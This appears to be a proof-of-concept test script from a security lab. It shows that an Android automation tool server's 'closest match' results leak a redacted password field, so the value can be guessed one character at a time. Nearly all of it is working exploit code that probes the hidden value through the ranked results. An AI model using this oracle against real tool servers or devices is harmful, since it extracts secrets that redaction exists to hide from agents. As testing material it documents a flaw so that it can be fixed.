"""Attack 4: android_find_ui_element's `closest` list (shown when nothing matches) is ranked
against the RAW text of a field the server hides: the rank/order of the held field answers
how close a guess is to the hidden value (a character-by-character oracle)."""
import anyio, json, sys
from lab import Lab, call
from mcp import Client

SECRET = "hunter2xyzQ"
TYPED = f"password={SECRET}"

async def closest(c, args):
    e, o, s, _ = await call(c, "android_find_ui_element", args)
    return e, o.get("count"), [(x.get("nodeId"), x.get("text") or x.get("label") or x.get("viewId")) for x in o.get("closest", [])], s

async def main():
    lab = Lab()
    try:
        async with Client(lab.relay_params(), mode="legacy") as c:
            await call(c, "android_launch_app", {"packageName": "com.example.shop"})
            await call(c, "android_tap_element", {"selector": {"viewId": "login_email"}})
            lab.shell(f"input text '{TYPED}'")
            e, o, s, _ = await call(c, "android_get_ui_tree", {})
            print("agent sees field as:", [x for x in s.split('"') if "redacted" in x][:1], "| secret in tree:", SECRET in s)
            for key in ("text", "element"):
                print(f"--- find by {key}")
                for g in ["zzzzzzzzzzz", "h", "hu", "hun", "hunt", "hunter", "hunter2", "hunter2x", "hunter2xyz", "hunter2xyzR", SECRET,
                          "password=", "password=hunter2", TYPED, "aaaaaa", "qqqqqqqqq"]:
                    args = {"selector": {"text": g}} if key == "text" else {"element": g}
                    e, n, cl, s = await closest(c, args)
                    print(f"{g!r:22} err={e} count={n} closest={[x[0] for x in cl]}")
            print("full answer for SECRET:", s[:1500] if False else "")
            e, n, cl, s = await closest(c, {"selector": {"text": SECRET}})
            print("RIGHT:", s[:1200])
            e, n, cl, s = await closest(c, {"selector": {"text": "hunter2xyzR"}})
            print("WRONG:", s[:1200])
    finally:
        lab.close()
anyio.run(main)
